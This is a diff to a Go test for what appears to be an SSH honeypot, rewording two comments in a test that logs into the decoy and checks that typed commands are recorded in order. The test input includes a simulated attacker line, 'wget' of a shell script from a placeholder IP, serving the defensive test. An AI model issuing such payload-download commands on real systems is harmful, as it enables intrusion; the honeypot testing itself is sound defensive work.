@@ -59,8 +59,8 @@ func TestDevSSHShell(t *testing.T) {
 			t.Fatalf("ssh with password %q: want Permission denied, got %v: %s", pw, err, out)
 		}
 	}
-	// -tt asks for a pty although stdin is a pipe, so the decoy runs its
-	// interactive, recorded shell and reads the lines as typed.
+	// -tt requests a pty although stdin is a pipe, so the decoy runs its
+	// interactive, recorded shell and reads the lines as typed input.
 	const wgetURL = "http://198.51.100.1/x.sh"
 	lines := []string{"uname -a", "wget " + wgetURL, "exit"}
 	out, err := ssh("Spring2026", strings.Join(lines, "\n")+"\n", "-tt")
@@ -104,8 +104,8 @@ func TestDevSSHShell(t *testing.T) {
 	}
 	attacker := attackerBySource(t, attackers, source)[source]
 
-	// The API lists the newest first; the commands are wanted in the
-	// order typed. Event ids are UUIDv7, ordered by time.
+	// The API lists the newest event first, and the commands are expected
+	// in typed order. Event ids are UUIDv7, so sorting them orders by time.
 	slices.SortFunc(events, func(a, b *apiv1.StoredEvent) int {
 		return strings.Compare(a.GetEvent().GetId(), b.GetEvent().GetId())
 	})
